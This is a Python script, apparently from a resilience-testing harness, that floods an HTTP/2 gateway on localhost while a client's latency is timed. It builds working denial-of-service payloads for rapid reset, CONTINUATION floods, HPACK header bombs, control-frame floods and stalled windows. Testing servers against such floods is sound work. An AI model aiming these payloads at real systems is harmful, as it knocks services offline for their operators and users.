"""Floods one gateway, a stretch at a time: a program, so that it runs beside the client whose answers are timed.

    flooder.py PORT CONNECTIONS FLOOD      then a line with a number on standard input: floods for so many seconds, and says
                                           how many connections it was thrown out of

What it sends was made before: it costs next to nothing to send, and all its time is the gateway's. It runs with SCHED_IDLE:
whoever else has work on its processor goes first, so that it takes none of the time of the client beside it.
"""

import os
import select
import socket
import sys
import time

import h2raw
from h2raw import (ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PADDED, PING, PREFACE, PRIORITY, SETTINGS,
    WINDOW_UPDATE, block, frame, get, headers, literal, rst_stream, settings, window_update)

# More than any budget allows, and then again and again where it may be sent again.
STREAMS = 1500

# A field that goes into the table, where 0xbe names it (RFC 7541 §6.2.1).
BIG = b"\x40\x01x" + h2raw._integer(3900, 7, 0) + b"y" * 3900
CRUMB = b"\x60\x01a"


def requests(behind, fields=(), end_stream=True, method="GET", count=STREAMS):
    """`count` requests, each with what `behind` makes of its stream's number."""
    text = block(get(method=method, fields=fields))
    flags = END_HEADERS | (END_STREAM if end_stream else 0)
    return b"".join(frame(HEADERS, flags, n, text) + behind(n) for n in range(1, 2 * count, 2))


def heads(count, first, more):
    """Heads that name again and again what the first of them has put into the table."""
    text = block(get())
    return b"".join(headers(1, [text, first], end_stream=True) if n == 1 else
        frame(HEADERS, END_HEADERS | END_STREAM, n, text + more) for n in range(1, 2 * count, 2))


def unended(data):
    return frame(HEADERS, 0, 1, block(get())) + frame(CONTINUATION, 0, 1, data) * 2000


def content(data):
    return frame(HEADERS, END_HEADERS, 1, block(get(method="POST"))) + data * 2000


def data_of_nothing(stream, count):
    return frame(DATA, 0, stream) * count


# By name: settings, and what is sent behind them.
FLOODS = {
    "rapid reset": ((), lambda: requests(lambda n: rst_stream(n, 8))),
    "made to reset": ((), lambda: requests(lambda n: window_update(n, 0x7fffffff), end_stream=False)),
    "made to reset by content": ((), lambda: requests(lambda n: frame(DATA, END_STREAM, n, b"x" * 10), [("content-length", "5")],
        False, "POST")),
    "CONTINUATION": ((), lambda: unended(b"\x40\x01a" + b"\x7f\x81\x07" + b"b" * 256)),
    "empty CONTINUATION": ((), lambda: unended(b"")),
    "PING": ((), lambda: frame(PING, 0, 0, b"12345678") * 2000),
    "SETTINGS": ((), lambda: settings([(1, 4096)]) * 2000),
    "PRIORITY": ((), lambda: frame(PRIORITY, 0, 5, b"\0\0\0\0\x10") * 2000),
    "WINDOW_UPDATE": ((), lambda: window_update(0, 1) * 2000),
    "unknown frames": ((), lambda: frame(0xee) * 2000),
    "empty DATA": ((), lambda: content(frame(DATA, 0, 1))),
    "padding only": ((), lambda: content(frame(DATA, PADDED, 1, b"\1\0"))),
    "content of the dead": ((), lambda: headers(1, [*get(method="POST"), ("connection", "close")]) + data_of_nothing(1, 800_000)),
    "header bomb": ((), lambda: heads(STREAMS, BIG, b"\xbe" * 16_000)),
    "cookie crumbs": ((), lambda: heads(STREAMS, b"\x60\0", b"\xbe" * 15_000)),
    "stalled windows": (((4, 0),), lambda: requests(lambda n: b"", count=100)),
}


def flood(address, data, connections, seconds):
    """Until then: how many connections have ended."""
    poll, left, ended = select.poll(), {}, 0
    until = time.monotonic() + seconds

    def begin():
        sock = socket.create_connection(address)
        sock.setblocking(False)
        left[sock.fileno()] = [sock, memoryview(data)]
        poll.register(sock, select.POLLIN | select.POLLOUT)

    def step(fd, events):
        sock, rest = left[fd]
        if rest and events & select.POLLOUT:
            left[fd][1] = rest = rest[sock.send(rest[:65536]):]
            if not rest:
                poll.modify(sock, select.POLLIN)
        return not events & (select.POLLIN | select.POLLHUP | select.POLLERR) or bool(sock.recv(262144))

    while (now := time.monotonic()) < until:
        while len(left) < connections:
            begin()
        for fd, events in poll.poll((until - now) * 1000):
            try:
                goes_on = step(fd, events)
            except BlockingIOError:
                continue
            except OSError:
                goes_on = False
            if not goes_on:
                poll.unregister(fd)
                left.pop(fd)[0].close()
                ended += 1
    for sock, _ in left.values():
        sock.close()
    return ended


def main():
    port, connections, name = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
    values, make = FLOODS[name]
    data = PREFACE + settings(values) + make()
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    print("ready", flush=True)
    for line in sys.stdin:
        print(flood(("127.0.0.1", port), data, connections, float(line)), flush=True)


if __name__ == "__main__":
    main()
